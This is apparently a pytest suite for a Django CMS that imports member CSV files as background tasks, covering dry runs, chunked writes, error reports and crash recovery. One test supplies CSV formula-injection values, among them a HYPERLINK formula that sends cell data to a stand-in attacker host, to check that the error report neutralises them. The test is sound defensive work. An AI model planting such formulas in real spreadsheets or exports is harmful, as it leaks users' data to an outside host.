"""Member CSV imports run as tasks: the upload answers at once, a worker reads the rows in
chunks (bulk lookups and writes), and the CMS shows progress, errors and a safe report."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django_tasks_db.models import DBTaskResult

from members import importing
from members.importing import CHUNK_SIZE, member_import_run
from members.models import Member, MemberEvent, MemberImport, Membership, Plan

pytestmark = pytest.mark.django_db

DB_TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend", "QUEUES": ["default", "narration", "email"]}}

CSV = (
    "email,name,plan,start_date,stripe_customer_id\n"
    "new1@example.com,New One,Member,2026-01-15,\n"
    "not-an-email,Bad,Member,2026-01-15,\n"
    "new2@example.com,New Two,sustainer,2026-02-01,cus_abc123\n"
    "new3@example.com,New Three,Gold,2026-02-01,\n"
    "new4@example.com,New Four,member,15/01/2026,\n"
    "new1@example.com,Twice,member,2026-01-15,\n"
)


@pytest.fixture
def admin_client(client, db):
    user = get_user_model().objects.create_superuser("boss", "boss@example.com", "pw")
    client.force_login(user)
    return client


def _upload(admin_client, data: bytes, *, dry_run: bool):
    form = {"file": SimpleUploadedFile("members.csv", data, content_type="text/csv")}
    if dry_run:
        form["dry_run"] = "on"
    return admin_client.post("/cms/members-import/", form)


def _upload_and_run(admin_client, django_capture_on_commit_callbacks, data: bytes, *, dry_run: bool):
    """Upload with the test settings' immediate task backend: the task runs on commit."""
    with django_capture_on_commit_callbacks(execute=True):
        response = _upload(admin_client, data, dry_run=dry_run)
    assert response.status_code == 302, response.content
    return admin_client.get(response["Location"])


def test_the_upload_answers_at_once_and_only_queues_the_rows(admin_client, django_capture_on_commit_callbacks):
    with override_settings(TASKS=DB_TASKS), django_capture_on_commit_callbacks(execute=True):
        response = _upload(admin_client, CSV.encode(), dry_run=False)
    job = MemberImport.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/cms/members-import/{job.pk}/"
    queued = DBTaskResult.objects.get(task_path="members.tasks.run_member_import")
    assert queued.status == "READY" and queued.args_kwargs["args"] == [job.pk]
    assert job.status == MemberImport.Status.QUEUED and job.rows_done == 0 and not job.dry_run
    assert not Member.objects.exists()  # no row work in the request
    page = admin_client.get(response["Location"]).content.decode()
    assert "Queued" in page and 'http-equiv="refresh"' in page
    assert admin_client.get(f"/cms/members-import/{job.pk}/status/").json()["status"] == "queued"


def test_a_dry_run_reports_every_row_saves_nothing_and_can_then_run_for_real(
    admin_client, django_capture_on_commit_callbacks
):
    html = _upload_and_run(admin_client, django_capture_on_commit_callbacks, CSV.encode(), dry_run=True).content
    html = html.decode()
    assert "2 new members would be created, 0 existing members would get a membership, 0 skipped, 4 with errors" in html
    assert "Unknown plan" in html and "YYYY-MM-DD" in html and "appears earlier" in html
    assert 'http-equiv="refresh"' not in html  # finished: no more polling
    assert not Member.objects.exists() and not Membership.objects.exists()
    dry = MemberImport.objects.get()
    assert dry.status == MemberImport.Status.DONE and dry.rows_done == dry.rows_total == 6

    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(f"/cms/members-import/{dry.pk}/run/")
    real = MemberImport.objects.exclude(pk=dry.pk).get()
    assert response["Location"] == f"/cms/members-import/{real.pk}/"
    assert real.checked_by == dry and not real.dry_run and real.status == MemberImport.Status.DONE
    assert (real.rows_created, real.rows_failed) == (2, 4)
    assert set(Member.objects.values_list("email", flat=True)) == {"new1@example.com", "new2@example.com"}
    assert bytes(real.data) == b""  # the personal data is not kept after a real run


def test_an_import_keeps_the_good_rows_when_others_are_bad(admin_client, django_capture_on_commit_callbacks):
    html = _upload_and_run(admin_client, django_capture_on_commit_callbacks, CSV.encode(), dry_run=False).content
    assert "2 new members created, 0 existing members given a membership, 0 skipped, 4 with errors" in html.decode()
    new2 = Member.objects.get(email="new2@example.com")
    assert new2.stripe_customer_id == "cus_abc123" and new2.is_supporter
    assert new2.memberships.get().kind == Membership.Kind.IMPORTED
    assert new2.status == Member.Status.ACTIVE and new2.plan.slug == "sustainer" and new2.source == "import"
    assert MemberEvent.objects.filter(member=new2, kind="imported").count() == 1


def test_existing_members_get_a_membership_and_members_with_one_are_skipped(
    admin_client, django_capture_on_commit_callbacks
):
    Member.objects.create(email="reader@example.com", name="Reader")  # signed up, never paid
    _upload_and_run(
        admin_client, django_capture_on_commit_callbacks, CSV.encode(), dry_run=False
    )  # new1 and new2 now have memberships
    data = (
        "email,name,plan,start_date\n"
        "reader@example.com,Reader,member,2026-01-01\n"
        "new1@example.com,New One,member,2026-01-01\n"
    )
    _upload_and_run(admin_client, django_capture_on_commit_callbacks, data.encode(), dry_run=False)
    job = MemberImport.objects.order_by("-pk").first()
    assert (job.rows_created, job.rows_updated, job.rows_skipped, job.rows_failed) == (0, 1, 1, 0)
    assert Member.objects.get(email="reader@example.com").memberships.get().kind == Membership.Kind.IMPORTED
    assert Membership.objects.filter(member__email="new1@example.com").count() == 1
    assert job.problems == [
        {
            "line": 3,
            "email": "new1@example.com",
            "result": "skipped",
            "message": "This address already has a membership; it was left unchanged.",
        }
    ]


def _generated(rows: int) -> bytes:
    out = io.StringIO()
    out.write("email,name,plan,start_date,stripe_customer_id\n")
    for n in range(rows):
        out.write(f"reader{n}@example.com,Reader {n},{'member' if n % 2 else 'Sustainer'},2026-01-{n % 28 + 1:02d},\n")
    return out.getvalue().encode()


def test_twenty_thousand_rows_cost_a_few_queries_per_chunk_not_per_row(django_assert_max_num_queries):
    Member.objects.create(email="reader7@example.com")  # one existing member, updated in bulk
    job = MemberImport.objects.create(data=_generated(20_000), dry_run=False, created_by_name="boss")
    chunks = 20_000 // CHUNK_SIZE
    # Per chunk: lookup, savepoint pair, member insert, id lookup, update, membership and event
    # inserts, progress save; plus a handful per import. Per-row work would be 20,000+.
    with django_assert_max_num_queries(12 * chunks + 10):
        member_import_run(import_id=job.pk)
    job.refresh_from_db()
    assert job.status == MemberImport.Status.DONE
    assert (job.rows_total, job.rows_done, job.rows_created, job.rows_updated) == (20_000, 20_000, 19_999, 1)
    assert Member.objects.count() == 20_000
    assert Membership.objects.filter(kind=Membership.Kind.IMPORTED).count() == 20_000
    assert Member.objects.get(email="reader7@example.com").memberships.get().plan.slug == "member"


def test_a_dry_run_of_many_rows_creates_nothing():
    job = MemberImport.objects.create(data=_generated(1_200), dry_run=True)
    member_import_run(import_id=job.pk)
    job.refresh_from_db()
    assert job.status == MemberImport.Status.DONE and job.rows_created == 1_200
    assert not Member.objects.exists() and not Membership.objects.exists() and not MemberEvent.objects.exists()


def test_an_import_runs_once_even_if_its_task_is_delivered_twice():
    job = MemberImport.objects.create(data=_generated(3), dry_run=False)
    member_import_run(import_id=job.pk)
    assert member_import_run(import_id=job.pk) is None
    assert Membership.objects.count() == 3


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?"&A2,"Open")', "+1+cmd", "-2+3", "@SUM(A1:A9)"],
)
def test_the_error_report_neutralises_formulas(admin_client, django_capture_on_commit_callbacks, name):
    data = f'email,name,plan,start_date\n"{name.replace(chr(34), chr(34) * 2)}",x,member,2026-01-01\n'
    _upload_and_run(admin_client, django_capture_on_commit_callbacks, data.encode(), dry_run=True)
    job = MemberImport.objects.get()
    response = admin_client.get(f"/cms/members-import/{job.pk}/report.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["line", "email", "result", "message"]
    assert rows[1][:3] == ["2", "'" + name, "error"]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"\xff\xfe\x00binary", "not UTF-8"),
        ("email,name,plan,start_date\n".encode("utf-16-le"), "not a CSV file"),
        (b"", "The file is empty"),
        (b"   \n", "The file is empty"),
        (b"just,some,columns\n1,2,3\n", "missing: email, name, plan, start_date"),
    ],
)
def test_broken_files_get_a_message_at_upload_not_an_error_page(admin_client, data, message):
    response = _upload(admin_client, data, dry_run=False)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not MemberImport.objects.exists() and not Member.objects.exists()


def test_a_file_beyond_the_size_limit_gets_a_message(admin_client, monkeypatch):
    monkeypatch.setattr(importing, "MAX_BYTES", 100)
    response = _upload(admin_client, CSV.encode(), dry_run=False)
    assert response.status_code == 200
    assert "larger than" in response.content.decode() and "Split it" in response.content.decode()
    assert not MemberImport.objects.exists()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b'email,name,plan,start_date\n"unclosed,x,y,z\n', "could not be read as CSV"),
        (b"email,name,plan,start_date\n", "no rows"),
        (b"email,name,plan,start_date\n" + b"a@example.com,a,member,2026-01-01\n" * 5, "split it into files"),
    ],
)
def test_a_file_the_worker_cannot_read_fails_with_a_message(
    admin_client, django_capture_on_commit_callbacks, monkeypatch, data, message
):
    monkeypatch.setattr(importing, "MAX_ROWS", 4)
    page = _upload_and_run(admin_client, django_capture_on_commit_callbacks, data, dry_run=False)
    assert page.status_code == 200 and message in page.content.decode()
    assert MemberImport.objects.get().status == MemberImport.Status.FAILED
    assert not Member.objects.exists()


def test_a_start_date_out_of_range_is_a_row_error_not_a_crash(admin_client, django_capture_on_commit_callbacks):
    data = b"email,name,plan,start_date\na@example.com,a,member,9999-12-31\n"
    _upload_and_run(admin_client, django_capture_on_commit_callbacks, data, dry_run=False)
    job = MemberImport.objects.get()
    assert job.status == MemberImport.Status.DONE and job.rows_failed == 1
    assert "out of range" in job.problems[0]["message"]


def test_imports_are_staff_only(client, db):
    job = MemberImport.objects.create(data=b"", dry_run=True)
    for url in ("/cms/members-import/", f"/cms/members-import/{job.pk}/", f"/cms/members-import/{job.pk}/report.csv"):
        assert client.get(url).status_code == 302
    assert Plan.objects.exists()


def test_a_chunk_that_clashes_is_redone_row_by_row(monkeypatch):
    """Someone joins with an address between the chunk's lookup and its insert."""

    def clash(*args, **kwargs):
        from django.db import IntegrityError

        raise IntegrityError("duplicate key value violates unique constraint")

    monkeypatch.setattr(importing, "_write_bulk", clash)
    job = MemberImport.objects.create(data=_generated(3), dry_run=False)
    member_import_run(import_id=job.pk)
    job.refresh_from_db()
    assert job.status == MemberImport.Status.DONE and job.rows_created == 3
    assert Membership.objects.filter(kind=Membership.Kind.IMPORTED).count() == 3
    assert set(Member.objects.values_list("status", flat=True)) == {Member.Status.ACTIVE}


def test_a_crash_mid_import_keeps_the_finished_chunks_and_says_so(monkeypatch):
    real = importing._write_bulk
    calls = []

    def second_chunk_fails(*args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise RuntimeError("database went away")
        return real(*args, **kwargs)

    monkeypatch.setattr(importing, "_write_bulk", second_chunk_fails)
    job = MemberImport.objects.create(data=_generated(CHUNK_SIZE + 10), dry_run=False)
    with pytest.raises(RuntimeError):
        member_import_run(import_id=job.pk)
    job.refresh_from_db()
    assert job.status == MemberImport.Status.FAILED and "stopped unexpectedly" in job.message
    assert (job.rows_done, job.rows_created) == (CHUNK_SIZE, CHUNK_SIZE) == (Member.objects.count(), CHUNK_SIZE)
